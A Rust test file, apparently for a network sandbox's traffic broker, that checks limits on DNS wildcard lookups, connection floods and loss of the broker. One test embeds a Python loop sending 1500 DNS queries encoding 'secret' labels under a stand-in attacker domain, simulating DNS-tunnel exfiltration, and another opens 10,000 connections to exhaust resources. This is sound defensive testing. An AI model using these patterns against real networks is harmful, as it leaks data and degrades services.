//! What is asked for too often, and what is left when the broker is gone.

use std::io::Write;
use std::net::TcpListener;
use std::thread;
use std::time::{Duration, Instant};

use crate::world::*;

/// Names below a wildcard are looked up at their owner's, who learns them: only so many.
#[test]
fn a_wildcard_is_a_narrow_tunnel() {
    in_a_world!();
    let world = World::new();
    let leak = |server: &str, port: u16| {
        python(&format!(
            "
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)
for n in range(1500):
    q = b'\\x12\\x34\\x01\\x00\\x00\\x01\\0\\0\\0\\0\\0\\0'
    q += b''.join(bytes([len(l)]) + l for l in (b'secret%d' % n, b'evil', b'example'))
    s.sendto(q + b'\\0\\0\\x01\\0\\x01', ('{server}', {port}))
    try:
        s.recv(999)
    except TimeoutError:
        pass
print('asked')
"
        ))
    };
    let start = Instant::now();
    let mut sandbox = world.sandbox(&["*.evil.example"]);
    assert_eq!(sandbox.run(&leak("198.18.0.1", 53)), "asked");
    let names: std::collections::HashSet<String> = world.asked().into_iter().collect();
    let most = 200.0 + 40.0 * start.elapsed().as_secs_f64();
    assert!(names.len() as f64 <= most, "{} names, {most}", names.len());
    assert!(!names.is_empty(), "a wildcard's names are looked up");
    assert_eq!(outside(&leak("127.0.0.1", world.dns_port())), "asked");
    let names: std::collections::HashSet<String> = world.asked().into_iter().collect();
    assert_eq!(names.len(), 1500, "the control arm");
}

/// A server that says hello and keeps every connection, in one thread: its memory is not the broker's.
fn patient(address: &str) {
    let listener = TcpListener::bind(address).expect("listener");
    thread::spawn(move || {
        let mut kept = Vec::new();
        for mut stream in listener.incoming().flatten() {
            drop(stream.write_all(b"hello\n"));
            kept.push(stream);
        }
    });
}

#[test]
fn ten_thousand_connections_leave_room_for_others() {
    in_a_world!();
    let world = World::new();
    patient(&format!("{SERVER}:7000"));
    echo(&format!("{OTHER}:7000"), "hello\n");
    let mut sandbox = world.sandbox(&["a.example:7000", "b.example:7000"]);
    let before = resident();
    sandbox.start(&python(
        r#"
import resource, time
resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],)*2)
early = socket.create_connection(("b.example", 7000), timeout=30)
assert early.recv(9)
address = socket.getaddrinfo("a.example", 7000, socket.AF_INET)[0][4]
flood, refused = [], 0
for n in range(10000):
    s = socket.socket()
    s.settimeout(30)
    try:
        s.connect(address)
        flood.append(s)
    except OSError:
        refused += 1
with socket.create_connection(("b.example", 7000), timeout=30) as s:
    print("new", s.recv(9))
early.sendall(b"still here")
print("early", early.recv(99))
print("tried", len(flood) + refused)
"#,
    ));
    let mut most = 0;
    while sandbox.is_running() {
        most = most.max(resident());
        thread::sleep(Duration::from_millis(10));
    }
    let printed = sandbox.finish();
    assert_eq!(printed, "new b'hello\\n'\nearly b'still here'\ntried 10000");
    let events = sandbox.events().join("\n");
    let told = "a.example:7000: too many connections to one host";
    assert!(events.contains(told), "{events}");
    let grown = most.saturating_sub(before);
    eprintln!("resident: {before} KiB, {grown} KiB more with 10000 connections");
    assert!(grown < 6 * 1024, "{grown} KiB more");
}

/// The memory of this process, where broker and servers are, in KiB.
fn resident() -> u64 {
    let text = std::fs::read_to_string("/proc/self/statm").expect("statm");
    let pages = text.split(' ').nth(1).expect("pages");
    pages.parse::<u64>().expect("number") * 4
}

#[test]
fn without_its_broker_the_sandbox_is_closed() {
    in_a_world!();
    let world = World::new();
    web(&format!("{SERVER}:80"), "server a");
    let mut sandbox = world.sandbox(&["a.example", "203.0.113.10"]);
    sandbox.start(&format!(
        "curl -sS -m 20 http://{SERVER}/ | head -1; \
         for _ in $(seq 200); do curl -s -m 20 http://{SERVER}/ >/dev/null || break; sleep 0.05; done; \
         curl -sS -m 20 http://{SERVER}/; curl -sS -m 20 http://a.example/"
    ));
    sandbox.wait_for("server a\n");
    drop(sandbox.broker.take());
    let printed = sandbox.finish();
    let (first, rest) = printed.split_once('\n').expect("two answers");
    assert_eq!(first, "server a");
    assert!(!rest.contains("server a"), "{printed}");
    assert!(
        rest.contains("curl: (7)") && rest.contains("curl: (6)"),
        "{printed}"
    );
}
